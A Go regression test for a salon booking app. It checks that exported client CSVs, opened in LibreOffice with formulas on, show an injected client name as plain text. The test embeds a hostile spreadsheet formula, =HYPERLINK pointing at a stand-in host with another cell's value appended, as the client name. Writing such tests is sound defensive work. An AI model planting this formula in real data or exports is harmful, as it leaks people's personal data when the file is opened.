package importer_test

import (
	"bytes"
	"encoding/csv"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"salon/booking"
	"salon/booking/bookingtest"
	"salon/importer"
)

// soffice finds LibreOffice, which the spreadsheet test opens exports
// with.
func soffice(t *testing.T) string {
	t.Helper()
	for _, name := range []string{"soffice", "libreoffice"} {
		if p, err := exec.LookPath(name); err == nil {
			return p
		}
	}
	t.Fatal("no LibreOffice found: install it (Debian: apt-get install libreoffice-calc-nogui)")
	return ""
}

// TestExportsOpenSafelyInASpreadsheet: a client named
// =HYPERLINK("http://x?"&B2,"Open"), given through the public API, was
// exported raw and ran as a live formula when the owner opened the export
// in LibreOffice. Now the export, opened as a Russian spreadsheet opens it
// (semicolons, UTF-8 with its BOM, formulas evaluated), shows the name as
// text and the phone as text with its "+"; and the import reads the file
// back to the same values.
func TestExportsOpenSafelyInASpreadsheet(t *testing.T) {
	t.Parallel()
	bin := soffice(t)
	e := bookingtest.New(t)
	src := e.Salon(t, booking.Salon{Locale: "ru"})
	sv := e.Service(t, src, booking.SalonService{Name: "Стрижка"})
	m := e.Master(t, src, sv)
	day := src.Today(e.Clock.Now()).AddDays(1)
	e.Shift(t, src, m, day, 1, "10:00", "20:00")
	const evil, phone = `=HYPERLINK("http://x?"&B2,"Open")`, "+79161234567"
	if _, err := e.Svc.Book(booking.As(bookingtest.System(), booking.Visitor()), booking.BookRequest{SalonID: src.ID, ServiceID: sv.ID,
		MasterID: m.ID, StartsAt: bookingtest.At(src, day, "11:00"), Client: booking.ClientInput{Name: evil, Phone: phone}}); err != nil {
		t.Fatal(err)
	}
	file := export(t, e, src, importer.Clients)
	if !bytes.HasPrefix(file, []byte("\ufeffимя;телефон")) {
		t.Fatalf("a Russian export: %q, want a BOM and semicolons", file)
	}
	dir := t.TempDir()
	in := filepath.Join(dir, "clients.csv")
	if err := os.WriteFile(in, file, 0o644); err != nil {
		t.Fatal(err)
	}
	// Opened with semicolons, UTF-8, formulas evaluated; saved as CSV of
	// what the cells show.
	cmd := exec.Command(bin, "--headless", "--infilter=CSV:59,34,76,1,,0,false,false,false,false,false,true",
		"--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1", "--outdir", filepath.Join(dir, "out"), in)
	cmd.Env = append(os.Environ(), "HOME="+dir)
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("LibreOffice: %v\n%s", err, out)
	}
	shown, err := os.ReadFile(filepath.Join(dir, "out", "clients.csv"))
	if err != nil {
		matches, _ := filepath.Glob(filepath.Join(dir, "out", "*.csv"))
		if len(matches) == 0 {
			t.Fatalf("LibreOffice wrote nothing: %v", err)
		}
		shown, _ = os.ReadFile(matches[0])
	}
	rows, err := csv.NewReader(bytes.NewReader(shown)).ReadAll()
	if err != nil || len(rows) != 2 {
		t.Fatalf("the sheet: %q %v", shown, err)
	}
	name, tel := rows[1][0], rows[1][1]
	if name == "Open" || !strings.HasSuffix(name, evil) {
		t.Errorf("the name's cell shows %q: the formula ran", name)
	}
	if !strings.HasSuffix(tel, phone) {
		t.Errorf("the phone's cell shows %q, want the text %s", tel, phone)
	}

	// Imported back: the same values.
	dst := e.Salon(t, booking.Salon{Locale: "ru"})
	if _, err := importer.Import(bookingtest.System(), e.Svc, bytes.NewReader(file), importer.Options{Kind: importer.Clients, Salon: dst}); err != nil {
		t.Fatal(err)
	}
	var got string
	if err := e.Pool.QueryRow(bookingtest.System(), `SELECT name FROM clients WHERE salon_id = $1 AND phone = $2`, dst.ID, phone).Scan(&got); err != nil || got != evil {
		t.Errorf("imported back: %q %v, want %q", got, err, evil)
	}
}
